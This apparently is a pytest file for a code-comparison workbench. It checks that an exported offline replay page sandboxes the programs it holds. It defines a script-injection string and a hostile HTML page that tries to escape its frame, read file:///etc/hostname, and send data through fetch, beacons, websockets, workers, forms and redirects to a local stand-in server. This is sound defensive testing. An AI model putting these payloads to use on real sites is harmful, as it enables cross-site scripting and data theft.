"""A battle as one file: its programs run from a disk with no network, and reach neither the page nor anything else."""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from typer.testing import CliRunner

from data import prompts
from data.environments import Environment
from data.languages import Language
from data.outcomes import Outcome
from data.records import Answer, Battle, Run, Vote
from data.store import Store
from runtimes_wasm.browser import build_document
from runtimes_wasm.browser.alone import stand_alone
from runtimes_wasm.extract import extract
from workbench.cli.main import app

WICKED = "</script></pre><script>window.bad = 1</script><img src=x onerror='window.bad = 2'>"
PNG = base64.b64encode(
    base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )
).decode()
#: Tries every way out that it knows, and writes what came of each into its own page.
HOSTILE = """<!doctype html><meta charset="utf-8"><pre id="said"></pre>
<link rel="stylesheet" href="URL/style"><img src="URL/img"><script src="URL/script"></script>
<iframe name="inside" hidden></iframe><script>
const said = [];
const tried = (name, deed) => { try { said.push(name + ":" + deed()); } catch (e) { said.push(name + ":refused"); } };
tried("parent", () => { parent.document.title = "owned"; return "REACHED"; });
tried("top", () => { top.location = "URL/top"; return "asked"; });
tried("storage", () => { localStorage.x = 1; return "asked"; });
tried("cookie", () => { document.cookie = "x=1"; return "asked"; });
tried("popup", () => window.open("URL/popup") ? "REACHED" : "refused");
tried("beacon", () => { navigator.sendBeacon("URL/beacon"); return "asked"; });
tried("socket", () => { new WebSocket("URL/ws".replace("http", "ws")); return "asked"; });
tried("frame", () => { const f = document.createElement("iframe"); f.src = "URL/frame"; document.body.append(f); return "asked"; });
tried("worker", () => { const b = new Blob(["fetch('URL/worker').catch(() => 0)"]); new Worker(URL.createObjectURL(b)); return "asked"; });
tried("form", () => { const f = document.createElement("form"); f.action = "URL/form"; f.target = "inside"; document.body.append(f); f.submit(); return "asked"; });
fetch("URL/fetch").then(() => "REACHED", () => "refused").then((what) => {
  said.push("fetch:" + what);
  fetch("file:///etc/hostname").then(() => "REACHED", () => "refused").then((what) => {
    said.push("file:" + what);
    document.getElementById("said").textContent = said.join(" ");
    parent.postMessage({ runoff: "nonsense", html: "<b>x</b>" }, "*");
    // Last, because its own page is lost by it: it leaves, with what it knows in the address.
    document.getElementById("said").onclick = () => {
      document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=URL/refresh">');
      location.href = "URL/self?what=it-knows";
    };
  });
});
</script>"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server that somebody else might own, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


def answer_of(model: str, code: str, language: Language, environment: Environment) -> Answer:
    return Answer(
        model=model,
        text=f"{WICKED}\n```\n{code}\n```",
        code=code,
        language=language,
        environment=environment,
    )


def export(store: Path, battle: str, target: Path, *more: str) -> Any:
    return CliRunner().invoke(
        app, ["export", "--battle", battle, str(target), "--store", str(store), "--json", *more]
    )


@pytest.fixture
def store(tmp_path: Path, elsewhere: tuple[str, list[str]]) -> Path:
    """A hostile page against a Python program, and a blind battle without a vote."""
    path = tmp_path / "log.sqlite"
    hostile = HOSTILE.replace("URL/", elsewhere[0] + "/")
    with Store.open(path) as log:
        left = answer_of(f"left {WICKED}", hostile, Language.HTML, Environment.CORE_WEB)
        right = answer_of("secret-model", "print(6 * 7)", Language.PYTHON, Environment.INTERPRETER)
        log.add_battle(Battle(id="open", prompt=WICKED, left=left, right=right, source="named"))
        log.add_battle(Battle(id="blind", prompt="p", left=left, right=right, source="live"))
        log.add_run(
            Run(
                id="r",
                battle_id="open",
                side="right",
                code="print(6 * 7)",
                language=Language.PYTHON,
                environment=Environment.INTERPRETER,
                status="ok",
                stdout=f"42 {WICKED}",
                stderr="a warning",
                extra={"screenshot_base64": PNG, "note": WICKED},
            )
        )
        log.add_vote(Vote(battle_id="open", voter="p", outcome=Outcome.RIGHT, comment=WICKED))
    return path


@pytest.mark.browser
@pytest.mark.threat("F01", "F02", "F03", "F04", "F06", "F08", "F09")
def test_a_hostile_program_in_a_file_reaches_neither_the_page_nor_the_network(
    store: Path, tmp_path: Path, browser: Browser, elsewhere: tuple[str, list[str]]
) -> None:
    done = export(store, "open", tmp_path / "replay.html")
    assert done.exit_code == 0, (done.output, done.exception)
    assert json.loads(done.stdout)["names"] is True
    page = browser.new_page(color_scheme="dark", viewport={"width": 390, "height": 800})
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    popups: list[Any] = []
    page.on("popup", lambda popup: popups.append(popup))
    page.goto((tmp_path / "replay.html").as_uri())
    # Nothing runs before somebody asks for it.
    assert len(page.frames) == 1 and asked == [(tmp_path / "replay.html").as_uri()]
    page.get_by_role("button", name="Run this program").click()
    said = page.frame_locator("iframe").locator("#said")
    expect(said).to_contain_text("file:", timeout=20_000)
    words = said.inner_text()
    assert "parent:refused" in words and "REACHED" not in words, words
    said.click()
    page.wait_for_timeout(1500)
    assert elsewhere[1] == []
    assert page.title() == "A battle · Runoff" and not popups
    # What it kept, it kept for itself: a stand-in without a disk.
    assert page.evaluate("document.cookie + Object.keys(localStorage)") == ""
    assert page.evaluate("window.bad") is None
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    text = page.locator("body").inner_text()
    assert f"42 {WICKED}" in text and "a warning" in text and "secret-model is better" in text
    assert page.locator("img").count() == 1 and page.locator("body b").count() == 0
    page.close()


def test_without_a_vote_no_name_is_in_the_file_and_no_file_is_written_over(
    store: Path, tmp_path: Path
) -> None:
    target = tmp_path / "blind.html"
    done = export(store, "blind", target)
    assert json.loads(done.stdout)["names"] is False
    assert "secret-model" not in target.read_text() and "Model B" in target.read_text()
    again = export(store, "blind", target)
    assert again.exit_code == 2 and "--overwrite" in again.output
    assert export(store, "blind", target, "--overwrite").exit_code == 0
    unknown = export(store, "nobody", tmp_path / "x.html")
    assert unknown.exit_code == 2 and not (tmp_path / "x.html").exists()


#: Prompts with one answer each, and what the page shows when its libraries are there.
LIBRARIES = {
    "kanban-board": "Lantern festival",
    "shopping-cart": "Market stall",
    "order-flowchart": "In stock?",
    "git-rescue-guide": "Git rescue card",
}


@pytest.mark.browser
@pytest.mark.assets
def test_programs_bring_their_libraries_along(tmp_path: Path, browser: Browser) -> None:
    path = tmp_path / "blank.html"
    from runtimes_wasm.browser.policy import ALONE_POLICY, SANDBOX

    path.write_text(
        f'<meta charset=utf-8><meta http-equiv="Content-Security-Policy" content="{ALONE_POLICY}">'
    )
    context = browser.new_context(offline=True)
    page = context.new_page()
    page.goto(path.as_uri())
    for name, words in LIBRARIES.items():
        found = extract(prompts.find(name).answers[0].text)
        assert found.code and found.language and found.environment
        alone = stand_alone(build_document(found.code, found.language, found.environment))
        page.evaluate(
            "([html, sandbox]) => { const f = document.createElement('iframe'); f.setAttribute('sandbox', sandbox);"
            "f.srcdoc = html; document.body.replaceChildren(f); }",
            [alone.html, SANDBOX],
        )
        expect(page.frame_locator("iframe").get_by_text(words).first, name).to_be_visible(timeout=30_000)
        assert len(alone.html) < 3e6, name
    context.close()
